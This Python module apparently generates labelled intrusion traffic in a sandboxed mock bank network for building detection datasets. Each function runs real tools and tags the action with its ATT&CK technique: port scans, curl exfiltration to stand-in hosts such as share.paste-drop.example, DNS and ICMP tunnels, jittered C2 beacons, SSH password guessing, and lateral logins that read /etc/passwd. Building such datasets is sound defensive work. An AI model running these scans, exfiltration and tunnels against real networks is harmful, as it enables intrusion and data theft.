"""What an intruder does, each action with real tools and each labelled with its ATT&CK technique.

Every function takes the acting host and its parameters, and labels exactly the time its tool ran. Parameters come from
scenarios.py, where the ones used for developing and the ones kept for reporting are told apart.
"""

import os
import time

from sandbox import PASSWORD
from servers import DNS2TCP_DOMAIN, IODINE_DOMAIN, TUNNEL_PASSWORD
from topology import BY_NAME, DECOY
from office import SSH_OPTIONS, to_null, rclone_copy

NMAP = ["nmap", "-n", "-Pn", "--max-retries", "1"]
PROBES = os.path.join(os.path.dirname(__file__), "probes.py")

# Discovery


def sweep(a, targets, port, how="-sS", speed="-T4"):
    """Horizontal: one port over a network."""
    if a.stage.have("nmap"):
        with a.doing("T1046", "scan-horizontal", targets, f"nmap {how} {speed} of port {port} over {targets}"):
            a.run(*NMAP, how, speed, "-p", str(port), targets, timeout_s=200)


def sweep_masscan(a, targets, ports, rate_per_s):
    if a.stage.have("masscan"):
        with a.doing("T1046", "scan-horizontal", " ".join(targets),
                     f"masscan of ports {ports} over {' and '.join(targets)} at {rate_per_s} packets/s"):
            router = [
                "--router-mac", "02-4e-00-00-00-01", "--adapter-ip", a.host.address, "--adapter-port", "61000",
                "--wait", "2"
            ]
            a.run("masscan", "-e", "eth0", *router, "--rate", str(rate_per_s), "-p", ports, *targets, timeout_s=120)


def knock_all_ports(a, target, ports, how="-sS", speed="-T4"):
    """Vertical: many ports of one host."""
    if a.stage.have("nmap"):
        address = BY_NAME[target].address
        with a.doing("T1046", "scan-vertical", address, f"nmap {how} {speed} of ports {ports} of {target}"):
            a.run(*NMAP, how, speed, "-p", ports, address, timeout_s=200)


def scan_udp(a, target, top):
    if a.stage.have("nmap"):
        address = BY_NAME[target].address
        with a.doing("T1046", "scan-vertical", address, f"nmap -sU of the {top} commonest UDP ports of {target}"):
            a.run(*NMAP, "-sU", "-T4", "--top-ports", str(top), "--host-timeout", "60s", address, timeout_s=90)


def enumerate_services(a, targets, ports):
    if a.stage.have("nmap"):
        addresses = [BY_NAME[target].address for target in targets]
        with a.doing("T1046", "service-enum", " ".join(addresses),
                     f"nmap -sV of ports {ports} on {', '.join(targets)}"):
            a.run(*NMAP, "-sS", "-sV", "-T4", "-p", ports, *addresses, timeout_s=300)


def sweep_slowly(a, targets, ports, delay_s):
    """One probe every *delay_s* seconds (shortened by the time scale), in random order, over live and dead addresses.
    """
    if a.stage.have("nmap"):
        delay_ms = max(1, int(1000 * delay_s / a.stage.time_scale))
        network = targets.rsplit(".", 1)[0] + ".0/24"
        with a.doing("T1046", "scan-slow", network,
                     f"nmap -sS --scan-delay {delay_ms} ms of ports {ports} over {targets}, one probe at a time"):
            a.run("nmap", "-n", "-Pn", "--max-retries", "0", "-sS", "--randomize-hosts", "--max-hostgroup", "1",
                  "--max-rate", f"{1000 / delay_ms:.3f}", "--scan-delay", f"{delay_ms}ms", "-p", ports, targets,
                  timeout_s=a.stage.duration_s)


def fan_out(a, rounds=1):
    """Speaks only to services that are there, one after the other: what an intruder does who read the inventory
    first. No failure betrays it."""
    visits = [("ssh-keyscan", "-T", "3", f"{name}.bank.example")
              for name in ("web", "git", "db", "files", "cache", "store", "app", "mon")]
    visits += [("curl", "-s", *to_null([f"https://{name}.bank.example/"]))
               for name in ("web", "git", "store", "pkg", "app")]
    visits += [("smbclient", "-N", "-L", "files.bank.example"), ("redis-cli", "-h", "cache.bank.example", "info"),
               ("psql", "-h", "db.bank.example", "-U", "postgres", "postgres", "-c", "\\dt"),
               ("curl", "-s", "http://app.bank.example:8080/api/"),
               ("curl", "-s", "telnet://mail.bank.example:25", "-m", "1")]
    with a.doing("T1046", "fanout", "10.20.20.0/24",
                 f"visits {len(visits)} live services once each, no failed connection ({rounds} round(s))"):
        for _ in range(rounds):
            for visit in a.rng.sample(visits, len(visits)):
                a.run(*visit, accept=(0, 1, 28), timeout_s=10)
                a.think(1.5, 0.5)


def enumerate_paths(a, words, threads):
    """gobuster over the intranet's TLS: a list of likely paths, nearly all of them 404."""
    if not a.stage.have("gobuster"):
        return
    with open(f"{a.folder}/wordlist", "w") as file:
        file.write("admin\nindex.html\n" + "".join(f"{a.rng.choice('abcdefghijklmnop')}{a.rng.randrange(10**5)}\n"
                                                   for _ in range(words)))
    with a.doing("T1595.003", "web-enum", BY_NAME["web"].address,
                 f"gobuster tries {words} paths on the intranet, {threads} at a time"):
        a.run("gobuster", "dir", "-q", "-k", "-t", str(threads), "-w", "wordlist", "-u",
              "https://intranet.bank.example", timeout_s=120)


def touch_decoy(a, how):
    """One contact with a host that nobody has a reason to know."""
    name = f"{DECOY.name}.bank.example"
    tools = {
        "ssh": ("ssh-keyscan", "-T", "3", name), "https": ("curl", "-s", *to_null([f"https://{name}/"])),
        "nmap": (*NMAP, "-sS", "-p", "22,445,3389", DECOY.address)
    }
    with a.doing("T1018", "decoy", DECOY.address, f"touches the decoy {DECOY.name} once ({how})"):
        a.run(*tools[how], accept=(0, 1))


# Exfiltration


def carry_out(a, size_bytes, by="curl", rate="2M"):
    """Bulk to a host outside that nobody else talks to."""
    with a.doing("T1048.002", "exfil-volume", BY_NAME["drop"].address,
                 f"{size_bytes / 1e6:.0f} MB to share.paste-drop.example over HTTPS by {by} at {rate}B/s"):
        _upload(a, size_bytes, "share.paste-drop.example", by, rate)


def carry_to_new(a, size_bytes, name="share.paste-drop.example"):
    """A moderate amount, but the destination was never seen before."""
    address = next(host.address for host in BY_NAME.values() if name in host.names)
    with a.doing("T1567", "exfil-new-destination", address,
                 f"{size_bytes / 1e6:.1f} MB to {name}, first contact, by one curl PUT"):
        _upload(a, size_bytes, name, "curl", "1M")


def carry_out_slowly(a, chunk_bytes, chunks, period_s):
    """Equal pieces at equal pauses: no window holds much."""
    with a.doing(
            "T1030", "exfil-low-rate", BY_NAME["drop"].address,
            f"{chunks} pieces of {chunk_bytes // 1024} KiB to share.paste-drop.example, one every {period_s / a.stage.time_scale:g} s"
    ):
        for n in range(chunks):
            if not a.going():
                break
            a.scratch("piece", chunk_bytes)
            a.run("curl", "-s", "-T", "piece", f"https://share.paste-drop.example/put/{n:05d}")
            a.wait(period_s * a.rng.uniform(0.9, 1.1))


def _upload(a, size_bytes, name, by, rate):
    """*rate* in bytes/s: nobody's uplink is the loopback."""
    if by == "rclone" and a.stage.have("rclone"):
        for n in range(4):
            a.scratch(f"loot/{n}.7z", size_bytes // 4)
        rclone_copy(a, "loot", name, rate)
    else:
        a.scratch("loot.7z", size_bytes)
        a.run("curl", "-s", "--limit-rate", rate, "-T", "loot.7z", f"https://{name}/put/{a.rng.randrange(10**6)}.7z",
              timeout_s=300)
        a.clear("loot.7z")


# Tunnels


def tunnel_iodine(a, size_bytes, record, via_resolver=True, rate="3k"):
    """IP over DNS by iodine, *size_bytes* carried out through it by curl."""
    if not os.path.exists("/dev/net/tun"):
        a.stage.log("SKIPPED: no /dev/net/tun, so no iodine; dns2tcp carries the DNS tunnels")
        return
    if not a.stage.have("iodine", "iodined"):
        return
    server = BY_NAME["dns" if via_resolver else "tunnel"].address
    with _relayed(a, via_resolver, "tunnel"), a.doing(
            "T1071.004", "dns-tunnel", server,
            f"iodine ({record} records) under {IODINE_DOMAIN}, {size_bytes // 1000} kB carried out at {rate}B/s"):
        # -r: no raw UDP mode, which would not be DNS. The server's tunnel address answers inside.
        process = a.start("iodine", "-f", "-r", "-T", record, "-m", "600", "-P", TUNNEL_PASSWORD, server, IODINE_DOMAIN)
        if _until(a, lambda: "10.99.0." in a.run("ip", "-4", "-o", "addr", "show"), 25):
            a.scratch("secrets", size_bytes)
            a.run("curl", "-s", "-o", "/dev/null", "--limit-rate", rate, "-T", "secrets",
                  "http://10.99.0.1/put/secrets", timeout_s=60)
        else:
            a.stage.failures.append("iodine: no tunnel came up: " + a.end(process)[-300:])
        a.end(process)


def tunnel_dns2tcp(a, size_bytes, record="TXT", via_resolver=True, rate="2k"):
    """A TCP connection to a web server carried in DNS by dns2tcp."""
    if not a.stage.have("dns2tcpc", "dns2tcpd"):
        return
    server = BY_NAME["dns" if via_resolver else "tunnel2"].address
    with _relayed(a, via_resolver, "tunnel2"), a.doing(
            "T1071.004", "dns-tunnel", server,
            f"dns2tcp ({record} records) under {DNS2TCP_DOMAIN}, {size_bytes // 1000} kB carried out at {rate}B/s"):
        process = a.start("dns2tcpc", "-T", record, "-r", "web", "-l", "9000", "-z", DNS2TCP_DOMAIN, server)
        a.wait(1.5 * a.stage.time_scale)
        a.scratch("secrets", size_bytes)
        a.run("curl", "-s", "-o", "/dev/null", "--limit-rate", rate, "-T", "secrets",
              "http://127.0.0.1:9000/put/secrets", timeout_s=90)
        a.end(process)


def drip_dns(a, size_bytes, queries_per_s, domain="x.cdn-sync.example"):
    """A tunnel by hand: query names that carry data, slowly. The domain does not even need to exist."""
    with a.doing("T1048.003", "dns-tunnel", BY_NAME["dns"].address,
                 f"{size_bytes} bytes in query names under {domain}, {queries_per_s:g} queries/s"):
        a.run("/usr/bin/python3", PROBES, "dnsdrip", BY_NAME["dns"].address, domain, str(size_bytes),
              str(queries_per_s), str(a.rng.random()), timeout_s=a.stage.duration_s)


def tunnel_icmp(a, size_bytes, rate="8k"):
    """TCP in echo requests by ptunnel, a file carried out through it."""
    if not a.stage.have("ptunnel"):
        return
    address = BY_NAME["pinger"].address
    with a.doing("T1095", "icmp-tunnel", address,
                 f"ptunnel: {size_bytes // 1000} kB carried out in echo requests at {rate}B/s"):
        process = a.start("ptunnel", "-p", address, "-lp", "8000", "-da", address, "-dp", "80")
        a.wait(1.0 * a.stage.time_scale)
        a.scratch("secrets", size_bytes)
        a.run("curl", "-s", "-o", "/dev/null", "--limit-rate", rate, "-T", "secrets",
              "http://127.0.0.1:8000/put/secrets", timeout_s=90)
        a.end(process)


def ping_payload(a, count, size_bytes, pattern):
    """Plain ping as a carrier: large payloads with a pattern that changes."""
    address = BY_NAME["pinger"].address
    with a.doing("T1095", "icmp-tunnel", address, f"{count} pings with {size_bytes} bytes of payload each"):
        for n in range(count):
            a.run("ping", "-c", "1", "-W", "1", "-s", str(size_bytes), "-p",
                  f"{pattern}{n:04x}{a.rng.randrange(2**32):08x}", address, accept=(0, 1))
            a.wait(0.5)


# Calling home


def beacon(a, period_s, jitter, count, name="cdn.fast-static.example"):
    """One small HTTPS request every *period_s* +/- *jitter* (a share), to a host nobody else talks to."""
    real_s = period_s / a.stage.time_scale
    with a.doing("T1071.001", "beacon", BY_NAME["c2"].address,
                 f"HTTPS requests to {name}, one every {real_s:g} s, jitter {jitter * 100:.0f} %"):
        for n in range(count):
            if not a.going():
                break
            began = time.monotonic()
            a.run("curl", "-s", "-o", "/dev/null", "-A", "Mozilla/5.0", f"https://{name}/api/{a.host.name}?n={n:06d}")
            a.wait(period_s * (1 + jitter * a.rng.uniform(-1, 1)) - (time.monotonic() - began) * a.stage.time_scale)


def beacon_persistent(a, period_s, jitter, count, name="cdn.fast-static.example"):
    """The same over one connection that stays open: requests written by hand into openssl's client."""
    real_s = period_s / a.stage.time_scale
    address = BY_NAME["c2"].address
    with a.doing("T1071.001", "beacon", address,
                 f"requests over one TLS connection to {name}, one every {real_s:g} s, jitter {jitter * 100:.0f} %"):
        a.run("dig", "+short", name)
        process = a.start("openssl", "s_client", "-quiet", "-connect", f"{address}:443", "-servername", name)
        for n in range(count):
            if not a.going():
                break
            process.stdin.write(f"GET /api/{n:06d} HTTP/1.1\r\nHost: {name}\r\n\r\n")
            process.stdin.flush()
            a.wait(period_s * (1 + jitter * a.rng.uniform(-1, 1)))
        a.end(process)


# Credentials and lateral movement


def guess_passwords(a, target, tries):
    with a.doing("T1110.001", "ssh-guessing", BY_NAME[target].address, f"{tries} wrong SSH passwords on {target}"):
        for n in range(tries):
            a.run("sshpass", "-p", f"wrong{n}", "ssh", *SSH_OPTIONS, "-o", "NumberOfPasswordPrompts=1",
                  f"ops@{target}.bank.example", "true", accept=(0, 5, 255))


def move_sideways(a, targets):
    with a.doing("T1021.004", "lateral-ssh", " ".join(BY_NAME[t].address for t in targets),
                 f"logs in over SSH to {', '.join(targets)} one after the other"):
        for target in targets:
            a.run("sshpass", "-p", PASSWORD, "ssh", *SSH_OPTIONS, f"ops@{target}.bank.example",
                  "id; ls /; cat /etc/passwd | head -3")
            a.think(2)


def _relayed(a, via_resolver, tunnel_end):
    """A tunnel through the resolver shows twice: the second row says that the resolver only passes it on."""
    if not via_resolver:
        return _Nothing()
    peer = BY_NAME[tunnel_end].address
    return a.stage.labels.during(BY_NAME["dns"].address, "T1071.004", "dns-tunnel-relay", peer,
                                 f"the resolver passes on the DNS tunnel of {a.host.address}")


class _Nothing:

    def __enter__(self):
        return self

    def __exit__(self, *_):
        return False


def _until(a, condition, limit_s):
    deadline = time.monotonic() + limit_s
    while time.monotonic() < deadline and a.going():
        if condition():
            return True
        time.sleep(0.2)
    return False
